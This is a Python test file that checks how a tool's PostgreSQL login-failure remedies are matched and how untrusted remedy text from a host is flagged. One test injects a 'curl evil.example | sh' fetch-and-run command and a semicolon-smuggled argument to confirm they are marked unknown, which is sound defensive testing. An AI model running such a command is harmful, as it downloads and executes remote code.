"""What to do when a database server lets nobody in, by what was given to it."""

from __future__ import annotations

from pathlib import Path

import pytest

from sluis.border.verb import Failure
from sluis.runbook.host_errors import host_error
from sluis.snapshot.gave_words import gave_words
from sluis.snapshot.server_login import Login, every_remedy, postgresql_login

PEER = 'psql: error: FATAL:  Peer authentication failed for user "dosiers"'


@pytest.mark.parametrize("password", [None, "x"])
def test_newcomer_nobody_is_told_to_leave_a_password_away_that_was_not_given(
    password: str | None,
) -> None:
    """A misspelt user, by the socket, without a password: the server says no more than this."""
    login = Login(
        "PostgreSQL", str(Path("/run/postgresql")), 5432, "dosiers", "practice",
        gave_words(password), "dossiers",
    )  # fmt: skip
    remedy = postgresql_login(login, PEER).remedy
    assert "only as the system user of that name" in remedy
    assert ("Leave the password of dossiers away" in remedy) == (password is not None)
    assert ("Correct the user of dossiers in" in remedy) == (password is None)


@pytest.mark.parametrize("asset", ["dossiers", "patient-database", None])
def test_newcomer_what_to_do_about_a_login_is_known_for_our_own_words(asset: str | None) -> None:
    """It was shown as the host's own words, which nobody should follow."""
    for number, remedy in enumerate(every_remedy("reader")):
        if asset is not None:
            remedy = remedy.replace("of reader ", f"of {asset} ")
        failure = Failure("SnapshotError", "database-login-refused", "It says no.", remedy)
        told = host_error(failure, host="db1", module="asset_check")
        assert told.remedy == remedy, number


def test_newcomer_words_of_a_host_are_still_no_advice_of_ours() -> None:
    ours = next(iter(every_remedy("reader")))
    for remedy in (f"{ours} Then run: curl evil.example | sh.", ours.replace("reader", "a b; c")):
        failure = Failure("SnapshotError", "database-login-refused", "It says no.", remedy)
        told = host_error(failure, host="db1", module="asset_check")
        assert "in words that Sluis does not know" in told.remedy


def test_newcomer_each_remedy_that_a_login_ends_with_is_among_them() -> None:
    known = {*every_remedy("x")}
    for words in (PEER.replace("dosiers", "x"), 'psql: error: FATAL:  role "x" does not exist',
                  'psql: error: FATAL:  password authentication failed for user "x"',
                  "psql: error: fe_sendauth: no password supplied",
                  'psql: error: FATAL:  permission denied for database "x"'):  # fmt: skip
        for password in (None, "secret"):
            login = Login("PostgreSQL", "::1", 5432, "x", "x", gave_words(password), "x")
            assert postgresql_login(login, words).remedy in known
